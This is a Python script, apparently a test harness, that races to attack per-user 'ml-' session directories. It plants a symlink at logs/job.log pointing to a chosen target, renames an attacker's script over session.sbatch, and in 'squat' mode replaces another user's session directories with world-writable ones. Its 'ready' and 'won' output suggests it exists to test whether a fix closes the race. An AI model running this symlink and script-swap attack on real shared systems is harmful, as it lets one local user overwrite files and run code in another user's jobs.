#!/usr/bin/env python3
"""A local user attacking the session directories below a user's directory, as fast as it can,
until killed or until SECONDS have passed. Run as the attacking account; it never needs privileges.

Usage: session-dir-racer.py SECONDS MODE ARGS...
  squat USER_DIR TARGET SCRIPT   (another user, owning USER_DIR) replaces each new session
                                 directory of the victim with its own: logs/job.log -> TARGET,
                                 and SCRIPT renamed over session.sbatch once that has content
  plant-log USER_DIR TARGET      (the session's own user) logs/job.log -> TARGET in each new session
  swap-script USER_DIR SCRIPT    (the session's own user) SCRIPT renamed over each session.sbatch
                                 once that has content

It prints "ready" once it runs, and "won PATH" each time it changed a session's file in time.
"""
import os
import shutil
import sys
import time

DEADLINE = time.monotonic() + float(sys.argv[1])


def sessions(user_dir):
    try:
        return [e for e in os.scandir(user_dir) if e.name.startswith("ml-") and not e.name.endswith(".old")]
    except OSError:
        return []


def won(path):
    print("won " + path, flush=True)
    return True


def plant_log(session_dir, target):
    log = os.path.join(session_dir, "logs", "job.log")
    try:
        os.symlink(target, log)
        return won(log)
    except FileExistsError:
        return True
    except OSError:
        return False


def swap_script(session_dir, script):
    sbatch = os.path.join(session_dir, "session.sbatch")
    try:
        if os.stat(sbatch).st_size == 0:
            return False
    except OSError:
        return False
    mine = os.path.join(session_dir, ".mine")
    try:
        shutil.copyfile(script, mine)
        os.chmod(mine, 0o755)
        os.rename(mine, sbatch)
    except OSError:
        return False
    return won(sbatch)


def squat(user_dir, target, script):
    me = os.getuid()
    done = set()
    while time.monotonic() < DEADLINE:
        for entry in sessions(user_dir):
            path = entry.path
            try:
                if entry.stat(follow_symlinks=False).st_uid != me:
                    os.rename(path, path + ".old")
                    for made in (path, os.path.join(path, "logs")):
                        os.mkdir(made)
                        os.chmod(made, 0o777)
                    plant_log(path, target)
                elif path not in done and swap_script(path, script):
                    done.add(path)
            except OSError:
                continue


def own_user(mode, user_dir, arg):
    done = set()
    while time.monotonic() < DEADLINE:
        for entry in sessions(user_dir):
            if entry.path in done:
                continue
            if (plant_log if mode == "plant-log" else swap_script)(entry.path, arg):
                done.add(entry.path)


def main():
    mode = sys.argv[2]
    print("ready", flush=True)
    if mode == "squat":
        squat(*sys.argv[3:6])
    else:
        own_user(mode, sys.argv[3], sys.argv[4])


main()
